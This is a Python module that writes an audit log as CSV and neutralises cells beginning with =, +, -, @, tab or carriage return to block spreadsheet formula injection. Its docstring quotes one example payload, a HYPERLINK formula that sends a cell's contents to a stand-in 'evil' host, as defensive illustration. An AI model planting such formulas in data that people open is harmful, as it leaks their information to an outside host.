"""Rows of the audit CSV export, safe to open in a spreadsheet.

Why neutralise: reasons, tickets, labels and details are typed by people or copied from the
providers' answers. A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula (tab and carriage return too: some apps strip them first), so a reason such as
``=HYPERLINK("http://evil/?"&A1)`` would act on the reviewer's machine ("CSV injection").
A leading apostrophe makes the spreadsheet show the text as text.

The CSV is for people reviewing the log, so it uses the labels the pages show (status as
``status_label``); the ``export_audit`` command is the machine format with stored codes.
"""

import csv
from collections.abc import Iterable, Iterator

from suppression_admin.audit.models import Operation, OperationItem
from suppression_admin.audit.serializers import iso_utc

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HEADER = (
    "operation_id",
    "created_at",
    "finished_at",
    "actor",
    "provider",
    "action",
    "status",
    "reason",
    "ticket",
    "source",
    "client_ip",
    "item_identifier",
    "item_label",
    "original_reason",
    "outcome",
    "detail",
)


def neutralise(value: object) -> str:
    """The cell's text, with a leading apostrophe if a spreadsheet would run it."""
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def operation_rows(operation: Operation) -> Iterator[list[str]]:
    """One row per item (items must be prefetched); one row with empty item cells if none."""
    facts = [
        operation.pk,
        iso_utc(operation.created_at),
        iso_utc(operation.finished_at),
        operation.actor_username,
        operation.get_provider_display(),
        operation.get_action_display(),
        operation.status_label,
        operation.reason,
        operation.ticket,
        operation.get_source_display(),
        operation.client_ip,
    ]
    items: list[OperationItem | None] = list(operation.items.all()) or [None]
    for item in items:
        cells = (
            [""] * 5
            if item is None
            else [
                item.identifier,
                item.label,
                item.original_reason,
                item.get_outcome_display(),
                item.detail,
            ]
        )
        yield [neutralise(value) for value in facts + cells]


def csv_lines(operations: Iterable[Operation]) -> Iterator[str]:
    """The header then every operation's rows, as CSV text, one line at a time."""
    writer = csv.writer(_Echo())
    yield writer.writerow(HEADER)
    for operation in operations:
        for row in operation_rows(operation):
            yield writer.writerow(row)


class _Echo:
    """A file-like object whose write() returns the line, so csv.writer can feed a stream."""

    def write(self, value: str) -> str:
        return value
